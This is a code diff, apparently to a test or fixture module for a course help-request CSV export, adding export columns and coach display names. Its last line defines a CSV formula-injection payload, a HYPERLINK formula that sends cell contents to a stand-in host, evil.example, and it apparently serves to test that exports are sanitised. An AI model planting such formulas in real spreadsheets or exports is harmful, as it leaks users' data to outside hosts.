@@ -12,10 +12,12 @@ from . import COURSE, T0
 
 REQUEST_HEADER = [
     "request_id", "learner", "point_id", "point_title", "topic", "status", "created_at", "first_answered_at",
-    "closed_at", "expected_response_hours", "due_at", "rating", "rating_comment", "working_on", "stuck_on", "tried",
-    "link",
+    "last_answered_at", "closed_at", "expected_response_hours", "due_at", "rating", "rating_comment",
+    "not_helped_at", "not_helped_count", "not_helped_comment", "working_on", "stuck_on", "tried", "link",
 ]
 MESSAGE_HEADER = ["request_id", "message_id", "author_role", "created_at", "body"]
+#: ... where the operator allows usernames: the coach's display name on each coach's message.
+MESSAGE_HEADER_WITH_NAMES = [*MESSAGE_HEADER, "coach_name"]
 
 # What people may type that a spreadsheet would run as a formula.
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")'
